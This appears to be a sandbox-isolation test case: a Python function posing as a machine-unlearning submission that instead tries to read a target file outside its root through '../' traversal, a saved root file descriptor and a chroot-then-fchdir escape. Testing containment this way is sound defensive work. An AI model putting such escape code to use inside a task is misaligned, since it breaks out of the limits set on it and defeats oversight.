"""Climbs out of its root: by parents of the root, of an open folder, and of a folder that a chroot left outside."""

import json
import os
from pathlib import Path

LAYER = "filesystem"
EXPECTED = "ok"

TARGETS = json.loads(Path("/sandbox/inputs/targets.json").read_text())


def read(path, folder=None):
    try:
        with open(os.open(path, os.O_RDONLY, dir_fd=folder)) as file:
            return file.read()
    except OSError:
        return ""


def unlearning(net, retain, forget, validation):
    up = "../" * 40
    root = os.open("/", os.O_RDONLY)
    loot = [read(up + TARGETS["readable_file"]), read(up + TARGETS["readable_file"], root)]
    os.mkdir("inner")
    try:
        os.chroot("inner")
        os.fchdir(root)
        loot.append(read(up + TARGETS["readable_file"]))
    except OSError:
        pass
    return [each for each in loot if each]
